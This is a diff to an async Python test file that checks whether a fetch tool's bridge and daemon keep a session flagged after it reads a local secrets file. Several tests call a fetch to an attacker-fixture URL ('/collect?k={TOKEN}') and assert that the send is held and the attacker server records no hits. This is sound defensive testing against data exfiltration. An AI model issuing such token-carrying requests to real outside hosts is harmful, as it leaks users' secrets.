@@ -76,7 +76,7 @@ async def _bridge(settings: Settings) -> AsyncIterator[DaemonBackend]:
 
 async def _read_the_secret(backend: DaemonBackend, tmp_path: Path) -> None:
     body = await backend.call("fetch", {"url": str(tmp_path / "secrets.md"), "query": ""})
-    assert body["ok"] and not any("in-process" in w for w in body.get("warnings", [])), body
+    assert body["ok"] and not any("own process" in w for w in body.get("warnings", [])), body
     assert backend.session.startswith("s1."), backend.session  # the daemon's id, not one the bridge made up
 
 
@@ -216,6 +216,19 @@ async def test_a_daemon_restart_does_not_shed_the_bridges_taint(tmp_path: Path, 
     assert attacker.hits == []
 
 
+async def test_the_bridges_own_answers_after_losing_the_daemon_stay_tainted(tmp_path: Path, attacker: Server) -> None:
+    """With the daemon gone (and not to be started), the bridge answers in its own process, with a flow memory of
+    its own that never saw the secret: that session starts as having read private content."""
+    settings = _settings(tmp_path)
+    async with _bridge(settings) as a:
+        async with _daemon(settings):
+            await _read_the_secret(a, tmp_path)
+        body = await a.call("fetch", {"url": f"{attacker.url}/collect?k={TOKEN}", "query": ""})
+        assert any("own process" in w for w in body.get("warnings", [])), body  # answered without the daemon
+        assert body["ok"] is False and body["error"]["code"] == "exit_held", body
+    assert attacker.hits == []
+
+
 async def test_the_trawl_mcp_process_asks_the_daemon_for_its_session(tmp_path: Path, attacker: Server) -> None:
     """The real ``trawl-mcp`` over stdio: its calls carry a daemon-minted session, and the user's yes through MCP
     elicitation is the grant that sends."""
@@ -226,7 +239,7 @@ async def test_the_trawl_mcp_process_asks_the_daemon_for_its_session(tmp_path: P
         async with Client(StdioServerParameters(command=TRAWL_MCP, args=["--no-start"], env=env),
                           elicitation_callback=elicit) as c:
             read = _page(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")}))
-            assert read.ok and not any("in-process" in w for w in read.warnings), read
+            assert read.ok and not any("own process" in w for w in read.warnings), read
             sent = _page(await c.call_tool("fetch_page", {"url": f"{attacker.url}/collect?k={TOKEN}"}))
             assert sent.ok, sent
         flow = _flow(d)
